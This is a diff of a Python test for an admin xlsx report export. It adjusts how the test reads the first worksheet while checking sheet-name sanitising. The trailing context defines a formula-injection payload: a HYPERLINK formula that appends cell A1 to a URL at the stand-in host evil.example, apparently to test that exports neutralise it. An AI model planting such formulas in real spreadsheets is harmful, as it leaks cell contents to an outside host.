@@ -173,11 +173,11 @@ def test_report_xlsx_of_a_unit_whose_name_has_sheet_title_characters(client, adm
     response = client.get(f"/admin/reports/export.xlsx?unit_id={unit['id']}&year=2026")
     assert response.status_code == 200
     book = load_workbook(io.BytesIO(response.data))
-    (title,) = book.sheetnames
+    title = book.sheetnames[0]  # the members' sheet, named after the unit
     assert len(title) <= 31
     assert not set(title) & set("[]:*?/\\")
     assert title.startswith("R&D_QA _east__ ")
-    assert [row[0] for row in book.active.iter_rows(values_only=True)][1:] == ["ann"]
+    assert [row[0] for row in book.worksheets[0].iter_rows(values_only=True)][1:] == ["ann"]
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Certificate")'
